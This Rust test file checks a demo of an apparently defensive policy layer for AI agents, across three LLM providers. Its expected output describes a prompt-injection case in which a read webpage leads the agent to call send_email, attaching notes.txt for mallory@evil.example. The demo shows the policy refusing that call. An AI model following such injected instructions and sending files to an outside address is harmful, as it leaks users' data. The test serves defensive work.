//! `archestra demo`: what it shows, and how it ends.
#![expect(clippy::panic, reason = "a test fails by panicking")]

use std::io::{BufRead, BufReader};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use rustix::process::{Pid, Signal, kill_process};
use testkit::Client;

/// Longer than anything takes that works.
const SOON: Duration = Duration::from_secs(20);

const PROVIDERS: [&str; 3] = ["openai", "anthropic", "gemini"];

fn demo(arguments: &[&str], folder: &tempfile::TempDir) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_archestra"));
    command.arg("demo").args(arguments).env("TMPDIR", folder.path());
    command
}

/// The lines stand in the text, in this order.
fn assert_in_order(text: &str, wanted: &[&str]) {
    let mut rest = text;
    for line in wanted {
        let (_, after) = rest.split_once(line).unwrap_or_else(|| panic!("{line:?} is missing in\n{text}"));
        rest = after;
    }
}

#[test]
fn the_attack_works_without_policies_and_fails_with_them_in_every_api() {
    for provider in PROVIDERS {
        let folder = tempfile::tempdir().unwrap();
        let done = testkit::run(&mut demo(&["--provider", provider], &folder), SOON);
        let text = &done.stdout;
        assert!(done.status.success(), "{provider}: {text}\n{}", done.stderr);
        assert_eq!(done.stderr, "", "{provider}");
        assert_in_order(
            text,
            &[
                "1  Without policies\n",
                "send_email(to: mallory@evil.example, attachment: notes.txt)\n",
                "SENT to mallory@evil.example\n",
                "SENT to bob@corp.example\n",
                "The attack worked: mallory@evil.example has the notes; the task was done.\n",
                "2  With a policy",
                "send_email(to: mallory@evil.example, attachment: notes.txt)\n",
                "REFUSED",
                "send_email\n",
                "untrusted_arguments\n",
                "only in result 1 of `read_webpage`\n",
                "decision",
                "SENT to bob@corp.example\n",
                "The attack failed: mallory@evil.example got nothing; the task was done.\n",
            ],
        );
        assert_eq!(text.matches("SENT to mallory").count(), 1, "{provider}: {text}");
        assert!(text.lines().count() <= 40, "{provider}: one screen: {text}");
        assert!(text.lines().all(|line| line.chars().count() <= 80), "{provider}: {text}");
        assert!(!text.contains('\u{1b}'), "{provider}: colours without a terminal: {text}");
        let left: Vec<_> = std::fs::read_dir(folder.path()).unwrap().collect();
        assert!(left.is_empty(), "{provider}: {left:?}");
    }
}

#[test]
fn an_unknown_provider_is_refused() {
    let folder = tempfile::tempdir().unwrap();
    let done = testkit::run(&mut demo(&["--provider", "nobody"], &folder), SOON);
    assert_eq!(done.status.code(), Some(2));
    assert!(done.stderr.contains("possible values: openai, anthropic, gemini"), "{}", done.stderr);
}

/// Killed when dropped.
struct Kept(Child);

impl Drop for Kept {
    fn drop(&mut self) {
        // Both fail only if it has ended.
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn kept_it_serves_until_a_signal_and_leaves_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let mut command = demo(&["--keep"], &folder);
    let mut kept = Kept(command.stdin(Stdio::null()).stdout(Stdio::piped()).spawn().unwrap());
    let lines = BufReader::new(kept.0.stdout.take().unwrap()).lines();
    let curl = lines.map(Result::unwrap).find(|line| line.contains("curl -s ")).unwrap();
    let mut words = curl.split_whitespace();
    let url = words.find(|word| word.starts_with("http://")).unwrap().strip_prefix("http://").unwrap();
    let (address, path) = url.split_at(url.find('/').unwrap());
    let file = words.find_map(|word| word.strip_prefix('@')).unwrap();
    let body = std::fs::read(file).unwrap();
    let ask = |path: &str| {
        let mut client = Client::connect(address.parse().unwrap());
        client.request("POST", path, &[("content-type", "application/json")], &body);
        client.read_response(SOON)
    };
    let with = ask(path);
    assert!(with.text().contains("bob@corp.example"), "{}", with.text());
    assert!(!with.text().contains("mallory"), "{}", with.text());
    assert!(with.header("x-archestra-decision-id").is_some());
    let without = ask(&path.replace("/protected/", "/unprotected/"));
    assert!(without.text().contains("mallory@evil.example"), "{}", without.text());
    kill_process(Pid::from_child(&kept.0), Signal::TERM).unwrap();
    assert!(kept.0.wait().unwrap().success());
    assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
}
